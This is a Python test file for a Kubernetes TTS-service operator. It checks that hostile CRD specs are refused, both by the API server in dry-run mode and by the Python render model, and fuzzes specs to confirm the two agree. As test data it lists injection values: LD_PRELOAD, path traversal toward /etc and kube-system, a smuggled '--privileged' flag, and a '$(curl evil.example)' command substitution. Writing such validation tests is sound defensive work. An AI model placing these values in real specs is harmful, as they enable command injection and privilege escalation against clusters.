"""Hostile specs against the real API server: issue 10's examples are refused with messages a
person reads, and for every spec the fuzzer makes the API server and `ttsfleet render`'s
model (pydantic + the same CEL rules in Python) give the same verdict.

Creates are dry runs (`dryRun=All`, strict field validation as kubectl's default): the
API server validates, defaults and runs CEL as for a real create, and stores nothing.
"""

from __future__ import annotations

import copy
import json

import pytest
from hypothesis import HealthCheck, given, settings
from pydantic import ValidationError

from support.hostile_specs import BASE, hostile_documents
from ttsfleet_operator import tts_service
from ttsfleet_operator.tts_service import TTSService

pytestmark = pytest.mark.timeout(300)


@pytest.fixture(scope="module")
def custom_objects(cluster):
    from kubernetes import client

    api = cluster.api_client()
    yield client.CustomObjectsApi(api)
    api.close()


def server_verdict(custom_objects, namespace: str, document: dict) -> tuple[bool, str]:
    """(accepted, message) of a dry-run create."""
    from kubernetes.client.rest import ApiException

    try:
        custom_objects.create_namespaced_custom_object(
            tts_service.GROUP,
            tts_service.VERSION,
            namespace,
            tts_service.PLURAL,
            copy.deepcopy(document),
            dry_run="All",
            field_validation="Strict",
        )
    except ApiException as error:
        # 400 (undecodable, unknown field) and 422 (invalid) are refusals of the spec; anything
        # else (403, 404, 409, 5xx) is the test's problem, not a verdict.
        assert error.status in (400, 422), f"{error.status}: {error.body}"
        return False, json.loads(error.body).get("message", error.body)
    return True, ""


def python_verdict(document: dict, namespace: str) -> tuple[bool, str]:
    document = copy.deepcopy(document)
    if isinstance(document.get("metadata"), dict):
        document["metadata"]["namespace"] = namespace
    try:
        TTSService.model_validate(document)
    except ValidationError as error:
        return False, str(error)
    return True, ""


def with_spec(metadata_name: str = "hostile", **changes) -> dict:
    document = copy.deepcopy(BASE)
    document["metadata"]["name"] = metadata_name
    for path, value in changes.items():
        node = document["spec"]
        parts = path.split(".")
        for part in parts[:-1]:
            node = node.setdefault(part, {})
        node[parts[-1]] = value
    return document


PATTERN = "should match"
HOSTILE = {
    "env-LD_PRELOAD": (
        with_spec(**{"runtime.env": [{"name": "LD_PRELOAD", "value": "/x.so"}]}),
        "loader or interpreter variables",
    ),
    "env-PYTHONPATH": (
        with_spec(**{"runtime.env": [{"name": "PYTHONPATH", "value": "/x"}]}),
        "loader or interpreter variables",
    ),
    "env-TTSFLEET": (
        with_spec(**{"runtime.env": [{"name": "TTSFLEET_PORT", "value": "1"}]}),
        "may not set TTSFLEET_* variables",
    ),
    "env-NVIDIA": (
        with_spec(**{"runtime.env": [{"name": "NVIDIA_VISIBLE_DEVICES", "value": "all"}]}),
        "NVIDIA_VISIBLE_DEVICES=all",
    ),
    "env-A=B": (with_spec(**{"runtime.env": [{"name": "A=B", "value": "x"}]}), PATTERN),
    "env-newline": (with_spec(**{"runtime.env": [{"name": "x\ny", "value": "x"}]}), PATTERN),
    "env-duplicate": (
        with_spec(
            **{
                "runtime.env": [
                    {"name": "HF_TOKEN", "value": "a"},
                    {"name": "HF_TOKEN", "value": "b"},
                ]
            }
        ),
        "runtime.env names must be unique",
    ),
    "pvc-path-dot-dot": (
        with_spec(**{"model.source": {"pvc": {"claimName": "models", "path": "/../../etc"}}}),
        "model.source.pvc.path must not contain '..'",
    ),
    "hub-dot-dot": (with_spec(**{"model.source": {"hub": "../etc"}}), PATTERN),
    "revision-dot-dot": (with_spec(**{"model.revision": "../../main"}), PATTERN),
    "api-keys-secret-name": (with_spec(**{"runtime.apiKeysSecret": "Not_A/Valid..Name!"}), PATTERN),
    "service-account-path": (
        with_spec(**{"runtime.serviceAccountName": "../../kube-system/admin"}),
        PATTERN,
    ),
    "name-not-dns-1035": (with_spec("tts.dotted"), "DNS-1035 label"),
    # Refused by the API server's own object-name check, before the CRD's rules run.
    "name-not-dns-1123": (with_spec("Bad_Name"), "metadata.name"),
    "image-space": (
        with_spec(**{"runtime.image": "ghcr.io/ttsfleet/runtime:0.1.0 --privileged"}),
        PATTERN,
    ),
    "image-newline": (with_spec(**{"runtime.image": "ghcr.io/ttsfleet/runtime:0.1.0\nx"}), PATTERN),
    "image-command": (with_spec(**{"runtime.image": "$(curl evil.example)"}), PATTERN),
    "image-rtl-override": (
        with_spec(**{"runtime.image": "ghcr.io/ttsfleet/runtime:\u202e0.1.0"}),
        PATTERN,
    ),
    "image-nul": (with_spec(**{"runtime.image": "ghcr.io/ttsfleet/runtime\x00:0.1.0"}), PATTERN),
    "replicas-string": (with_spec(replicas="3"), "must be of type integer"),
    "gpu-count-2": (
        with_spec(**{"gpu.count": 2}),
        "gpu.count must be 1: the runtime serves with one GPU",
    ),
    "auth-disabled-with-keys": (
        with_spec(**{"runtime.auth": "Disabled", "runtime.apiKeysSecret": "keys"}),
        "apiKeysSecret has no effect with runtime.auth Disabled",
    ),
    "node-selector-key": (
        with_spec(**{"spot.nodeSelector": {"bad key!": "x"}}),
        "spot.nodeSelector keys are label keys",
    ),
}


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_api_server_refuses_hostile_specs_with_a_message(custom_objects, namespace, case):
    document, message = HOSTILE[case]
    accepted, said = server_verdict(custom_objects, namespace, document)
    assert not accepted, f"{case}: accepted by the API server"
    assert message in said, f"{case}: expected {message!r} in:\n{said}"
    assert python_verdict(document, namespace)[0] is False, (
        f"{case}: accepted by ttsfleet render's model"
    )


def test_the_unmodified_base_spec_is_accepted_by_both(custom_objects, namespace):
    assert server_verdict(custom_objects, namespace, BASE) == (True, "")
    assert python_verdict(BASE, namespace) == (True, "")


@pytest.mark.parametrize("replicas", [3, 3.0, 3.5, "3"])
def test_api_server_and_render_agree_on_how_integers_are_spelled(
    custom_objects, namespace, replicas
):
    document = with_spec(replicas=replicas)
    assert (
        server_verdict(custom_objects, namespace, document)[0]
        == (python_verdict(document, namespace)[0])
    ), f"replicas: {replicas!r}"


def test_api_server_and_render_agree_on_every_fuzzed_spec(custom_objects, namespace):
    verdicts = {True: 0, False: 0}

    @settings(
        max_examples=150,
        deadline=None,
        derandomize=True,
        database=None,
        suppress_health_check=[HealthCheck.too_slow],
    )
    @given(hostile_documents())
    def agree(document):
        accepted, said = server_verdict(custom_objects, namespace, document)
        python_accepted, python_said = python_verdict(document, namespace)
        assert accepted == python_accepted, (
            f"API server {'accepts' if accepted else 'refuses'}, render "
            f"{'accepts' if python_accepted else 'refuses'}:\nserver: {said}\nrender: {python_said}"
        )
        verdicts[accepted] += 1

    agree()
    # Both verdicts occurred, so agreement was tested both ways.
    assert verdicts[True] >= 5 and verdicts[False] >= 50, verdicts
